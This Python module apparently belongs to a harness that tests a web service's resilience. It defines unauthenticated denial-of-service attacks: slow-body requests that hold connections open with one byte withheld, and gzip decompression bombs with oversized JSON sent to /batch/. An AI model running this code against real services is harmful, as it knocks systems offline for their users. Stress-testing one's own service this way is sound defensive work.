"""Bodies of those who have no key at all: held half sent, or packed so that unpacking is the attack."""
import gzip
import time

from attack import Attack
from target import close_all, send_quietly

MIB = 1 << 20
HELD = 30


def hold_bodies(path):
    """Ten MiB announced, all but a byte sent, then silence."""
    def strike(target, stopped):
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {10 * MIB}\r\n\r\n".encode()
        piece, held = b"x" * MIB, []
        while not stopped():
            for connection in target.connect_many(min(3, HELD - len(held)), head):
                for _ in range(10):
                    if not send_quietly(connection, piece if _ < 9 else piece[:-1]):
                        break
                held.append(connection)
            if len(held) >= HELD:
                target.armed()
                time.sleep(0.2)
        close_all(held)

    return strike


PACKED = {
    "lists": b'{"batch":[' + b"[]," * 3_300_000 + b'[]],"api_key":"x"}',
    "one string": b'{"batch":["' + b"a" * 9_000_000 + b'"],"api_key":"x"}',
    "numbers": b'{"batch":[' + b"1.7976931348623157e308," * 430_000 + b'1],"api_key":"x"}',
}


def packed_blow(content):
    made = []

    def blow(target):
        made or made.append(gzip.compress(content, 9))
        target.try_to_ask("POST", "/batch/", None, made[0], packed=True)

    return blow


ATTACKS = [
    *(Attack(f"bodies held back, {path}", "no key", strike=hold_bodies(path), builds_up=True)
      for path in ("/v1/sign-in", "/v1/sign-out", "/batch/")),
    *(Attack(f"packed {name} to /batch/", "no key", packed_blow(content)) for name, content in PACKED.items()),
]
